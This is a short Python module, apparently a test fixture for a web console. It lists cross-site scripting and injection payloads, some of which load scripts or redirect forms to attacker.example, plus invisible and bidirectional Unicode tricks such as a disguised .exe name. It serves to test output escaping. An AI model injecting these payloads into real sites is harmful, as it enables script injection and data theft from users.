"""Texts of attackers: script, style, links, directions. Each has a word to find it by on a page."""

from secrets import token_hex

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script src=//attacker.example></script>',
    "'><iframe src=javascript:alert(1)>",
    "</title><style>*{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "</textarea><form action=//attacker.example>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "<meta http-equiv=refresh content=0;url=//attacker.example>",
    "<base href=//attacker.example>",
    "-->'\"]]><x-element hx-get=//attacker.example>",
    "javascript:alert(1)",
)
UNSEEN = ("\u202egpj.exe", "a\u200bb", "bell\u0007", "\ufeffstart", "\u2066isolated\u2069")
ELEMENTS = frozenset(
    ("iframe", "object", "embed", "base", "style", "img", "x-element", "video", "audio", "frame", "applet")
)
"""Elements that no page of the console has."""


def all_of_them() -> str:
    """One text with every trick, and a word of its own."""
    return f"hostile{token_hex(3)} " + " ".join((*SCRIPTS, *UNSEEN))


def short_ones() -> list[str]:
    """The tricks as texts of their own, for fields that allow little."""
    return [*SCRIPTS, *UNSEEN]
